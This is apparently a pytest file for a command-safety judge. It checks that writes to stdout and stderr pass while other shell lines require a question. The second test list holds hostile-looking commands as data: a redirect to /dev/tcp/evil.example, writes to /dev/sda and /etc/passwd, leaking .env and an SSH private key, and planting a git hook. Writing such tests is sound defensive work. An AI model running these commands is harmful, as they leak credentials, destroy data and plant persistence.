"""Writing to what is open anyway is not writing a file."""

from __future__ import annotations

import pytest

from errands.judge.judge import judge
from tests.judge.fake_workspace import FakeWorkspace

pytestmark = pytest.mark.spec("A2")

PLACE = FakeWorkspace(links={"/dev/stdout": "/proc/self/fd/1", "/dev/stderr": "/proc/self/fd/2"})


@pytest.mark.parametrize(
    "line",
    [
        "echo oops > /dev/stderr",
        "echo oops >> /dev/stderr",
        "ls 2> /dev/stdout",
        "ls &> /dev/stderr",
        "ls | tee /dev/stderr",
        "ls | tee -a /dev/stderr | head -1",
        "ls | tee /dev/null",
        "pytest -q | tee /dev/stderr | tail -1",
        "for i in 1 2; do echo $i > /dev/stderr; done",
        "for i in 1 2; do echo $i | tee /dev/stderr; done",
    ],
)
def test_writing_to_a_stream_needs_no_question(line: str) -> None:
    found = judge([line], PLACE)

    assert found.verdict == "contained"
    assert not [each for each in found.reasons if each.undo == "no" or "overwrites" in each.text]


@pytest.mark.parametrize(
    "line",
    [
        "ls > /dev/tty",
        "ls > /dev/sda",
        "ls > /dev/stderr/../sda",
        "ls > /dev/tcp/evil.example/80",
        "ls 3> /dev/stderr",
        "ls | tee /dev/tty",
        "ls | tee /dev/sda",
        "ls | tee ~/x",
        "ls | tee /dev/stderr ~/x",
        "ls | xargs tee",
        "find . -exec tee {} +",
        "ls | tee /dev/../etc/passwd",
        "ls | tee /dev/fd/3",
        "ls | tee .git/hooks/pre-commit",
        "cat .env > /dev/stderr",
        "cat .env | tee /dev/stderr",
        "cp ~/.ssh/id_rsa /dev/stdout",
        "mv src/app.py /dev/stdout",
        "ln -sf ~/x /dev/stderr",
        "rm /dev/stdout",
        "cat < /dev/stderr",
        "dd if=.env of=/dev/stderr",
    ],
)
def test_other_devices_and_files_are_not_streams(line: str) -> None:
    assert judge([line], PLACE).verdict == "ask"


def test_a_question_names_only_the_files_that_tee_writes() -> None:
    first, *_ = judge(["ls | tee /dev/stderr ~/x"], PLACE).reasons

    assert first.text == "overwrites /home/person/x; cannot be undone"
